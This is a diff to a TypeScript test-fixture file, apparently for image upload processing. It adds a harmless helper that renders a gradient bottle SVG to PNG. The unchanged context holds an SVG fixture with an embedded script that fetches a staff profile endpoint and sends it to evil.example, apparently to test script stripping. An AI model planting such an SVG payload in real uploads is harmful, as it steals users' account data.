@@ -47,3 +47,20 @@ export const SVG_WITH_SCRIPT = Buffer.from(
     '<script>fetch("/api/v1/staff/me").then(r=>r.text()).then(t=>new Image().src="//evil.example/?"+t)</script>' +
     '<rect width="10" height="10"/></svg>',
 );
+
+/** A drawn bottle on a soft background (gradients, flat areas, a label): a picture AVIF keeps much smaller. */
+export function drawnBottlePng(side = 1600): Promise<Buffer> {
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${side}" height="${side}" viewBox="0 0 400 400">
+    <defs>
+      <linearGradient id="glass" x1="0" x2="1">
+        <stop offset="0" stop-color="#4a0d1c"/><stop offset="0.5" stop-color="#a8324f"/>
+        <stop offset="1" stop-color="#2b0710"/>
+      </linearGradient>
+      <radialGradient id="back"><stop offset="0" stop-color="#fff"/><stop offset="1" stop-color="#e9dcc9"/></radialGradient>
+    </defs>
+    <rect width="400" height="400" fill="url(#back)"/>
+    <path d="M180 40h40v80c0 20 40 30 40 80v180h-120V200c0-50 40-60 40-80z" fill="url(#glass)"/>
+    <rect x="150" y="230" width="100" height="80" fill="#f3e9d2"/>
+  </svg>`;
+  return sharp(Buffer.from(svg)).png().toBuffer();
+}
